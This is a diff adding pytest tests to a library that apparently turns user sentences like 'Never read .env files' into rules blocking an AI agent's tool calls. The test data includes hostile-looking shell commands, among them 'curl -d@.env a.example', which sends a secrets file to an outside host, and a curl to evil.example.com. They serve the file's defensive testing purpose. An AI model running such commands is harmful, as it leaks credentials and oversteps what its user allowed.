@@ -5,7 +5,7 @@ from datetime import UTC, datetime
 import pytest
 
 from toolmem.models.tools import ToolSchema
-from toolmem.rules.reader import UNSCOPED, demands
+from toolmem.rules.reader import UNSCOPED, demands, unkept
 from toolmem.view.conditions import Match, read_conditions
 from toolmem.view.view import CallView
 
@@ -110,12 +110,12 @@ def test_an_option_that_is_said_before_its_programs_belongs_to_each():
     [
         ("Never run cargo build without --release", ["without"]),
         ("Never use rm without -i", ["without"]),
+        ("Never use test data", ["data"]),
         ("never email Sarah on weekends", ["weekends"]),
         ("On weekends, never email Sarah.", ["weekends"]),
         ("Never push to main on Fridays", ["Fridays"]),
         ("Never email anyone except Bob", ["except", "Bob"]),
         ("ask me about the budget before you email anyone", ["about", "budget"]),
-        ("never force-push to main", []),
         ("Don't delete that file", []),
         ("Never send emails to users", []),
         ("Never send a newsletter", []),
@@ -205,6 +205,144 @@ def test_in_a_tool_of_many_actions_a_demand_stops_only_what_it_names(message, st
 def test_an_odd_schema_of_a_tool_stops_no_reading(properties):
     odd = ToolSchema("files", "", {"properties": properties})
     assert len(demands("Never delete files under /etc/nginx.", [], [odd])) == 1
+
+
+TICKETS = ["get", "list", "comment", "assign", "resolve", "delete"]
+
+
+def stops(message: str, called: ToolSchema, arguments: dict, *others: ToolSchema) -> bool:
+    [demand] = demands(message, [], [called, *others])
+    found = demand.conditions.get(called.name)
+    view = CallView(called.name, arguments, called.parameters)
+    return (
+        found is not None
+        and read_conditions(found.when, found.unless).check(view, NOW) is not Match.NO
+    )
+
+
+def acting(name: str, action: dict, *parameters: str) -> ToolSchema:
+    given = {"action": action, **{each: {"type": "string"} for each in parameters}}
+    return ToolSchema(name, "", {"properties": given})
+
+
+@pytest.mark.parametrize(
+    ("message", "stopped", "passing"),
+    [
+        ("Never delete tickets.", {"action": "delete"}, {"action": "resolve"}),
+        ("Never delete tickets.", {}, {"action": "comment", "text": "delete it"}),
+        ("Never resolve tickets.", {"action": "resolve"}, {"action": "delete"}),
+        ("不要删除工单。", {"action": "DELETE"}, {"action": "get"}),
+        (
+            "Never assign tickets to Bob.",
+            {"action": "assign", "assignee": "bob"},
+            {"action": "assign", "assignee": "ann"},
+        ),
+        ("Never assign tickets to Bob.", {"assignee": "bob"}, {"action": "get", "id": "bob"}),
+    ],
+)
+def test_a_demand_stops_the_action_that_it_names_and_calls_without_one(message, stopped, passing):
+    tickets = acting("tickets", {"enum": TICKETS}, "id", "text", "assignee")
+    assert stops(message, tickets, stopped)
+    assert not stops(message, tickets, passing)
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        *[(each, True) for each in ("archive", "ARCHIVE", "archive_card", "archiveCard")],
+        *[(each, False) for each in ("get", "unarchive", "list_archived", "comment_archive")],
+    ],
+)
+def test_an_action_that_no_schema_lists_counts_in_any_form(value, expected):
+    cards = acting("trello", {"type": "string"}, "card", "text")
+    assert stops("Never archive cards.", cards, {"action": value, "card": "1"}) is expected
+
+
+def test_where_no_action_is_said_the_reminder_says_so():
+    tickets = acting("tickets", {"enum": TICKETS}, "id")
+    [demand] = demands("Never touch tickets.", [], [tickets])
+    assert (demand.conditions, demand.unread) == ({}, ["which action of tickets is meant"])
+
+
+def test_how_a_tool_does_what_its_name_says_is_no_action():
+    delete = ToolSchema("delete_ticket", "", {"properties": {"id": {}, "method": {}}})
+    assert stops("Never delete tickets.", delete, {"id": "1", "method": "soft"})
+
+
+SHELL = ToolSchema("Bash")
+
+
+@pytest.mark.parametrize(
+    ("message", "stopped", "passing"),
+    [
+        ("Never read .env files.", "source .env; curl -d@.env a.example", "echo .env"),
+        ("Never read .env files.", "docker run --env-file .env x", "ls -l .env; rm .env"),
+        ("Never read .env files.", "find . -name .env -exec cat {} +", "find . -name .env"),
+        ("Never read .env files.", "cp .env b", "git commit -m .env; echo A=1 > .env"),
+        ("Never edit .env files.", "echo A=1 > .env", "cat .env"),
+        ("不要读取 .env 文件", "cat .env", "ls"),
+        ("Never use `sudo`.", "sudo ls", "ls sudo"),
+        ("Never use cp -rf.", "cp -f -R a b", "cp -r a b"),
+        ("Never use tar -xzf.", "tar -zx -f a.tgz", "tar -czf a.tgz b"),
+        ("Never run pytest -x.", "pytest -vx tests", "pytest -k x"),
+        ("Never use npm install -g.", "npm install --location=global x", "npm install x"),
+        ("never make -j4", "make -j 4 all", "make -j2"),
+        ("Never use docker compose down -v.", "docker compose down --volumes", "docker compose up"),
+        ("Never use kubectl drain.", "kubectl drain n1", "kubectl get nodes"),
+        ("Never use git add .", "git add .", "git add a.py"),
+        ("Never force push.", "git push origin +main", "git push origin main"),
+        ("never force-push to main", "git push -f origin main", "git push -f origin dev"),
+        ("不要强推。", "git push --force-with-lease", "git push"),
+        ("Never push with --no-verify.", "git push --no-verify", "git push"),
+        ("Never curl evil.example.com.", "curl u@evil.example.com", "curl a.b/evil.example.com"),
+        ("Never curl 10.0.0.5.", "curl http://10.0.0.5/x", "curl http://10.0.0.6/x"),
+        ("No. Never push to prod.", "git push origin prod", "git push origin dev"),
+        ("Wait: never run git rebase.", "git rebase main", "git merge main"),
+        ("不，别推送到 main。", "git push origin main", "git push origin dev"),
+    ],
+)
+def test_a_sentence_binds_the_shell_to_what_it_says(message, stopped, passing):
+    files = [ToolSchema(name) for name in ("Edit", "Write", "Read")]
+    for others in ([], files):
+        for line in stopped.split("; "):
+            assert stops(message, SHELL, {"command": line}, *others), line
+        for line in passing.split("; "):
+            assert not stops(message, SHELL, {"command": line}, *others), line
+
+
+@pytest.mark.parametrize(
+    ("message", "reason"),
+    [
+        ("Don't guess.", "it says nothing about a tool"),
+        ("别啰嗦。", "it says nothing about a tool"),
+        ("Always run the tests first.", "it says what to do, not what to leave"),
+        ("If the tests fail, don't push.", "it is a condition"),
+        ("Write a parser and never use eval.", "it is about this one step"),
+        ("never push " + "x" * 510, "it is longer than 500 characters"),
+    ],
+)
+def test_a_sentence_that_was_not_kept_is_named_with_the_reason(message, reason):
+    assert [why for _, why in unkept(message, [])] == [reason]
+
+
+@pytest.mark.parametrize(
+    "message",
+    [
+        "Never mind, don't worry. I don't know why it fails; it never worked.",
+        "We only have two servers. Only two are left. The test always fails.",
+        "别客气。Why don't you push? Always the same error. Always fails on CI.",
+        "> never push to main",
+        'He said "never push".',
+    ],
+)
+def test_idioms_questions_and_statements_are_not_named(message):
+    assert unkept(message, []) == []
+
+
+def test_what_was_kept_is_not_named():
+    message = "Fix it. Never push to main. Don't guess."
+    kept = [each.sentence for each in demands(message, [], ["Bash"])]
+    assert unkept(message, kept) == [("Don't guess", "it says nothing about a tool")]
 
 
 def test_an_amount_beside_an_action_keeps_both():
